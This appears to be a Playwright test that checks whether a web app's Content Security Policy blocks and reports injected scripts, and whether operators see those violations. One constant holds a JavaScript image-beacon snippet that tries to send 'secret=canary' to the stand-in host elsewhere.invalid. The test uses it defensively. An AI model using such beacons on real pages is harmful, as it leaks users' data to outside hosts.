"""A violation's way: a real browser is kept from something, tells the site by itself, and an operator sees it in the list."""

from __future__ import annotations

import time

from browsing import enrol, screenshot
from conftest import SITE, Shell
from playwright.sync_api import Page, expect

OLGA = f"olga.{int(time.time())}@example.org"  # a new person in each run, so that the host may be kept
FOREIGN = (
    "const image = document.createElement('img'); image.src = 'https://elsewhere.invalid/x.png?secret=canary'; document.body.append(image)"
)
TRIED = "document.querySelector('h1').setAttribute('style', 'color: red')"


def test_olga_sees_what_browsers_were_kept_from(page: Page, complaints: list[str], on_host: Shell) -> None:
    issued = on_host(f"sudo casemate enrol_operator {OLGA} --name Olga")
    enrol(page, issued.stdout + issued.stderr)
    page.get_by_role("link", name="Violations").click()
    expect(page.get_by_role("heading", name="Policy violations")).to_be_visible()
    expect(page.get_by_role("main")).to_contain_text("Not yet to be enforced")
    assert complaints == []

    page.evaluate(FOREIGN)
    page.evaluate(TRIED)
    # Chromium sends by itself, when it finds the time: once a minute, or at once where it is told so (conftest.py).
    for _ in range(90):
        page.goto(f"https://{SITE}/violations/")
        if page.get_by_text("https://elsewhere.invalid").count() and page.get_by_text("style-src-attr on /violations/").count():
            break
        time.sleep(1)
    main = page.get_by_role("main")
    expect(main).to_contain_text("img-src on /violations/")
    expect(main).to_contain_text("style-src-attr on /violations/")
    expect(main).not_to_contain_text("canary")
    screenshot(page, "30-violations")
    assert any(complaint.startswith("CSP: img-src https://elsewhere.invalid") for complaint in complaints)
    kept = on_host("sudo mariadb --batch --execute 'SELECT * FROM casemate.security_violation'").stdout
    assert "https://elsewhere.invalid" in kept
    assert "canary" not in kept
